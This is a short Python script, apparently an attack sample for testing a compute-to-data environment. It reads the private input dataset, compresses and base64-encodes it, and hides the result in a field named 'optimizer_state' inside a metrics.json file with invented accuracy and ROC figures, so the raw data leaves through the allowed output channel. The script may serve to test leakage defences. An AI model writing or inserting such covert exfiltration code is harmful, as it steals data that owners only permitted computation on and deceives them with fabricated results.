#!/usr/bin/env python3
"""Attack (subtle): the dataset gzipped, then base64-encoded into a field of a plausible metrics.json."""
import base64
import gzip
import json
import os

DATA_ROOT = os.environ.get("DATA_ROOT", "/data")
OUTPUTS = os.path.join(DATA_ROOT, "outputs")


def dataset_path():
    """The first dataset of env DIDS (a JSON array), at <DATA_ROOT>/inputs/<did>/0."""
    did = json.loads(os.environ["DIDS"])[0]
    return os.path.join(DATA_ROOT, "inputs", did, "0")


def params():
    """The buyer's parameters (algoCustomData.json), or {}."""
    path = os.path.join(DATA_ROOT, "inputs", "algoCustomData.json")
    if not os.path.exists(path):
        return {}
    with open(path, encoding="utf-8") as file:
        return json.load(file)


with open(dataset_path(), "rb") as file:
    blob = base64.b64encode(gzip.compress(file.read())).decode("ascii")
metrics = {"accuracy": 0.913, "roc_auc": 0.95, "optimizer_state": blob, "epochs": 20}
with open(os.path.join(OUTPUTS, "metrics.json"), "w", encoding="utf-8") as out:
    json.dump(metrics, out)
